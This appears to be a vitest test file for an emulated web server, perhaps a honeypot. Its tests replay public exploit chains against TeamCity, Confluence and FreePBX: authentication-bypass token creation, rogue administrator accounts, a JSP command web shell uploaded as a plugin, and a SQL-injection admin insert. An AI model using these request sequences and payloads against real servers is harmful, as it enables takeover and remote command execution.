/** The steps of public exploits that make an administrator or a token, who then comes back. */

import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { cookieOf, stranger, webMachine } from '../../../../test/support/http-visitor.ts';
import { zipArchive } from '../../../../test/support/sample-archive.ts';

const id = /uid=\d+\(/;
const shell =
  '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>';
const machine = webMachine('ubuntu-web', ['teamcity', 'confluence', 'freepbx']);

describe('TeamCity', () => {
  it('makes a token for CVE-2024-27198, and by it loads a plugin whose page takes commands', () => {
    const persona = machine;
    const visitor = stranger(persona);
    expect(visitor.get('/app/rest/server').status).toBe(401);
    const made = visitor.send('POST', '/hax?jsp=/app/rest/users/id:1/tokens/Ab12;.jsp');
    expect(made.cves).toContain('CVE-2024-27198');
    const bearer = { Authorization: `Bearer ${/value="([^"]+)"/.exec(made.body)?.[1] ?? ''}` };
    expect(visitor.get('/app/rest/server', bearer).body).toContain('buildNumber="129390"');
    const plugin = zipArchive({ 'server/plug.jar': zipArchive({ 'buildServerResources/plug.jsp': shell }) });
    visitor.upload(
      '/admin/pluginUpload.html',
      [
        ['fileName', null, 'plug.zip'],
        ['file:fileToUpload', 'plug.zip', plugin],
      ],
      bearer,
    );
    const listed = visitor.get('/admin/admin.html?item=plugins', bearer).body;
    expect(listed).toMatch(/registerPlugin\('\/plugins\/plug', 'plug', false, '[0-9a-f-]{36}'\)/);
    visitor.form('/admin/plugins.html', 'action=setEnabled&enabled=true&uuid=x', bearer);
    expect(visitor.get('/plugins/plug/plug.jsp?cmd=id', bearer).body).toMatch(id);
    expect(stranger(persona).get('/plugins/plug/plug.jsp?cmd=id').body).not.toMatch(id);
    expect(visitor.send('DELETE', '/hax?jsp=/app/rest/users/id:1/tokens/Ab12;.jsp').status).toBe(204);
    expect(visitor.get('/app/rest/server', bearer).status).toBe(401);
  });

  it('makes an administrator that logs in', () => {
    const visitor = stranger(machine);
    const roles = { role: [{ roleId: 'SYSTEM_ADMIN', scope: 'g' }] };
    visitor.json('/hax?jsp=/app/rest/users;.jsp', {
      username: 'mallory',
      password: 'pa55',
      email: 'm@a.example',
      roles,
    });
    const basic = (pair: string) => ({ Authorization: `Basic ${Buffer.from(pair).toString('base64')}` });
    expect(visitor.get('/app/rest/users', basic('mallory:pa55')).body).toContain('username="admin"');
    expect(visitor.get('/app/rest/users', basic('mallory:other')).status).toBe(401);
  });

  it('runs processes for CVE-2023-42793 once the property allows them', () => {
    const visitor = stranger(machine);
    visitor.send('DELETE', '/app/rest/users/id:1/tokens/RPC2');
    const made = visitor.send('POST', '/app/rest/users/id:1/tokens/RPC2');
    expect(made.cves).toContain('CVE-2023-42793');
    const bearer = { Authorization: `Bearer ${/value="([^"]+)"/.exec(made.body)?.[1] ?? ''}` };
    const process = '/app/rest/debug/processes?exePath=id';
    expect(visitor.send('POST', process, bearer).status).toBe(400);
    visitor.send(
      'POST',
      '/admin/dataDir.html?action=edit&fileName=config%2Finternal.properties&content=rest.debug.processes.enable=true',
      bearer,
    );
    visitor.send(
      'POST',
      '/admin/admin.html?item=diagnostics&tab=dataDir&file=config/internal.properties',
      bearer,
    );
    expect(visitor.send('POST', process, bearer).body).toMatch(/^StdOut:uid=\d+\(/);
    expect(
      visitor.send('POST', '/app/rest/debug/processes?exePath=echo&params=2vQ4711', bearer).body,
    ).toContain('StdOut:2vQ4711');
  });
});

describe('Confluence', () => {
  it('begins its setup again for CVE-2023-22515, logs the new administrator in and loads a plugin that runs commands', () => {
    const persona = machine;
    const visitor = stranger(persona);
    expect(visitor.get('/setup/setupadministrator-start.action').status).toBe(302);
    visitor.get('/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=0&cache1');
    expect(visitor.get('/setup/setupadministrator-start.action').body).toContain('name="setup-next-button"');
    const account =
      'username=mallory&fullName=admin&email=m%40a.example&password=pa55&confirm=pa55&setup-next-button=Next';
    expect(
      visitor.form('/setup/setupadministrator.action', account, { 'X-Atlassian-Token': 'no-check' }).body,
    ).toContain('Setup Successful');
    visitor.form('/setup/finishsetup.action', '', { 'X-Atlassian-Token': 'no-check' });
    expect(
      visitor.form('/dologin.action', 'os_username=mallory&os_password=wrong&login=Log+in').body,
    ).toContain('incorrect');
    const login = visitor.form(
      '/dologin.action',
      'os_username=mallory&os_password=pa55&login=Log+in&os_destination=%2Findex.action',
    );
    expect(login.headers).toContain('Location: /index.action');
    expect(login.facts).toContainEqual(
      expect.objectContaining({ kind: 'auth', user: 'mallory', password: 'pa55', accepted: true }),
    );
    const session = { Cookie: `JSESSIONID=${cookieOf(login, 'JSESSIONID')}` };
    expect(visitor.get('/welcome.action', session).body).toContain('content="mallory"');
    const token =
      /^upm-token: (\d+)/m.exec(visitor.get('/rest/plugins/1.0/?os_authType=basic', session).headers)?.[1] ??
      '';
    const jar = zipArchive({
      'atlassian-plugin.xml':
        '<atlassian-plugin key="a"><servlet><url-pattern>/zb/*</url-pattern></servlet></atlassian-plugin>',
      'a.class': 'x',
    });
    expect(
      visitor.upload(`/rest/plugins/1.0/?token=${token}`, [['plugin', 'a.jar', jar]], session).status,
    ).toBe(202);
    expect(visitor.form('/plugins/servlet/zb', 'cmd=id', session).body).toMatch(id);
    expect(visitor.form('/plugins/servlet/other', 'cmd=id', session).body).not.toMatch(id);
    expect(stranger(persona).form('/plugins/servlet/zb', 'cmd=id').body).not.toMatch(id);
  });

  it('takes a backup for CVE-2023-22518, and whoever is in it', () => {
    const visitor = stranger(machine);
    const restore = (content: string) =>
      visitor.upload(
        '/json/setup-restore.action',
        [
          ['buildIndex', null, 'false'],
          ['file', 'x.zip', content],
          ['edit', null, 'Upload and import'],
        ],
        { 'X-Atlassian-Token': 'no-check' },
      );
    const refused = restore('no archive');
    expect(refused.cves).toContain('CVE-2023-22518');
    expect(refused.body).toContain("The zip file did not contain an entry 'exportDescriptor.properties'");
    expect(visitor.form('/dologin.action', 'os_username=admin&os_password=admin').status).toBe(200);
    expect(
      restore(zipArchive({ 'entities.xml': '<a/>', 'exportDescriptor.properties': 'buildNumber=9012' })).body,
    ).toContain('Setup Successful');
    expect(visitor.form('/dologin.action', 'os_username=admin&os_password=admin').status).toBe(302);
  });
});

describe('FreePBX', () => {
  it('makes an administrator by SQL, who logs in (CVE-2025-57819)', () => {
    const visitor = stranger(machine);
    const hash = createHash('sha1').update('pa55').digest('hex');
    const brand = encodeURIComponent(
      `x' ;INSERT INTO ampusers (username,password_sha1,sections) VALUES ('mallory','${hash}','*') -- `,
    );
    const made = visitor.get(
      `/admin/ajax.php?module=FreePBX%5Cmodules%5Cendpoint%5Cajax&command=model&template=x&model=model&brand=${brand}`,
    );
    expect(made.cves).toContain('CVE-2025-57819');
    expect(made.status).toBe(500);
    expect(visitor.form('/admin/config.php', 'username=mallory&password=no').body).toContain(
      'Invalid Login Credentials',
    );
    expect(visitor.form('/admin/config.php', 'username=mallory&password=pa55').headers).toContain(
      'PHPSESSID',
    );
  });
});
